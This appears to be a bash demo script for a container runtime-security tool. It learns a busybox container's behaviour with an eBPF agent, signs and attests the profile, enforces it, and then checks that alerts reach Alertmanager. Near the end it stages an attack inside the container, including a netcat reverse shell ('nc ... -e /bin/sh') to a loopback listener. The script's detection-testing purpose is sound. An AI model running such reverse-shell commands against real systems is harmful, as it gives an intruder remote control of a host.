#!/usr/bin/env bash
# The whole path on one host, for real: a local registry and Alertmanager, a busybox
# container learned by the eBPF agent, its profile pushed, signed and attested, then
# enforced; an attack in the container ends as alerts in Alertmanager.
#
# Needs root (eBPF), podman with runc, busybox-static, docker-registry and
# prometheus-alertmanager: `bash .ci/setup` installs them. Everything it starts is on
# loopback and stopped at the end.
set -euo pipefail
cd "$(dirname "$0")/../.."

if [ "$(id -u)" -ne 0 ]; then
  echo "live demo: skipped (needs root for the eBPF sensor; run: sudo bash examples/demo/live.sh)"
  exit 0
fi
for tool in podman runc docker-registry prometheus-alertmanager; do
  command -v "$tool" >/dev/null || { echo "live demo: skipped ($tool missing; bash .ci/setup installs it)"; exit 0; }
done

cargo build --release --locked -q -p imprint-cli -p imprint-agent
imprint=$PWD/target/release/imprint
agent=$PWD/target/release/imprint-agent
work=$(mktemp -d)
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  wait 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
reg=127.0.0.1:$(free_port)
am=127.0.0.1:$(free_port)

echo "## a registry on $reg and an Alertmanager on $am"
printf 'version: 0.1\nlog: {level: error}\nstorage: {filesystem: {rootdirectory: %s/registry}}\nhttp: {addr: %s}\n' "$work" "$reg" > "$work/registry.yml"
docker-registry serve "$work/registry.yml" >/dev/null 2>&1 & pids+=($!)
printf 'route: {receiver: none, group_wait: 1s}\nreceivers: [{name: none}]\n' > "$work/am.yml"
prometheus-alertmanager --config.file="$work/am.yml" --storage.path="$work/am" \
  --web.listen-address="$am" --cluster.listen-address= >/dev/null 2>&1 & pids+=($!)
sleep 2

echo "## a busybox image, pushed and run by digest"
export CONTAINERS_CONF=$work/containers.conf
printf '[containers]\nnetns = "host"\ndefault_ulimits = ["nofile=20000:20000", "nproc=32768:32768"]\n[engine]\ncgroup_manager = "cgroupfs"\nruntime = "runc"\n' > "$CONTAINERS_CONF"
mkdir -p "$work/rootfs/bin" "$work/rootfs/etc" "$work/rootfs/tmp"
cp /bin/busybox "$work/rootfs/bin/busybox"
for a in sh cat echo; do ln -s busybox "$work/rootfs/bin/$a"; done
echo "root:x:0:0:root:/root:/bin/sh" > "$work/rootfs/etc/passwd"
tar -C "$work/rootfs" -cf "$work/rootfs.tar" .
podman import -q "$work/rootfs.tar" localhost/imprint-demo:1 >/dev/null
podman push -q --tls-verify=false --digestfile "$work/digest" localhost/imprint-demo:1 "docker://$reg/shop/app:1"
digest=$(cat "$work/digest")
image=$reg/shop/app@$digest
echo "$image"
normal='cat /etc/passwd > /dev/null; echo ok > /tmp/out; true'

echo
echo "## learn: imprint-agent --mode learn, three runs of the app's normal work"
"$agent" --mode learn --learning-period 8s --out "$work/profiles" --state-dir "$work/learn" 2>"$work/learn.log" & learner=$!
pids+=($learner)
sleep 2
for _ in 1 2 3; do podman run --rm --tls-verify=false "$image" /bin/sh -c "$normal"; done
profile=$work/profiles/${digest/:/-}.yaml
for _ in $(seq 60); do [ -f "$profile" ] && break; sleep 0.5; done
kill "$learner"; wait "$learner" 2>/dev/null || true
cat "$profile"

echo
echo "## CI: push, sign and attest"
export COSIGN_PASSWORD=demo
(cd "$work" && "$imprint" key generate)
artifact=$("$imprint" push "$profile" --image "$image")
"$imprint" sign "$artifact" --key "$work/cosign.key"
"$imprint" attest "$artifact" --key "$work/cosign.key" --from-profile --builder-id https://ci.example/demo/1
"$imprint" verify "$artifact" --key "$work/cosign.pub" --attestation

echo
echo "## production: imprint-agent --mode enforce with the public key"
"$agent" --mode enforce --key "$work/cosign.pub" --alertmanager-url "http://$am" \
  --state-dir "$work/enforce" --refresh 2 2>"$work/enforce.log" & pids+=($!)
sleep 2
podman run --rm --tls-verify=false "$image" /bin/sh -c "$normal"
for _ in $(seq 60); do grep -q "enforcing .* for sha256:" "$work/enforce.log" && break; sleep 0.5; done
grep "enforcing .* for sha256:" "$work/enforce.log" || { cat "$work/enforce.log"; exit 1; }

echo "## an attacker in the container: an unexpected program, then a reverse shell"
port=$(free_port)
/bin/busybox nc -l -p "$port" </dev/null >/dev/null & listener=$!
sleep 0.5
podman run --rm --tls-verify=false "$image" /bin/sh -c "/bin/busybox id >/dev/null; /bin/busybox nc 127.0.0.1 $port -e /bin/sh" >/dev/null 2>&1 & attacker=$!
sleep 3
kill "$listener" 2>/dev/null || true; wait "$attacker" 2>/dev/null || true

echo
echo "## what Alertmanager received (GET /api/v2/alerts)"
for _ in $(seq 40); do
  alerts=$(python3 -c "import json,urllib.request; print(json.dumps([a['labels'] for a in json.load(urllib.request.urlopen('http://$am/api/v2/alerts'))]))")
  echo "$alerts" | grep -q imprint_reverse_shell && break
  sleep 0.5
done
python3 -c "
import json,sys
for l in json.loads(sys.argv[1]):
    print(f\"{l['alertname']:32} severity={l['severity']:9} container={l['container']} image={l['image_digest'][:19]}…\")
" "$alerts"
echo "$alerts" | grep -q imprint_reverse_shell
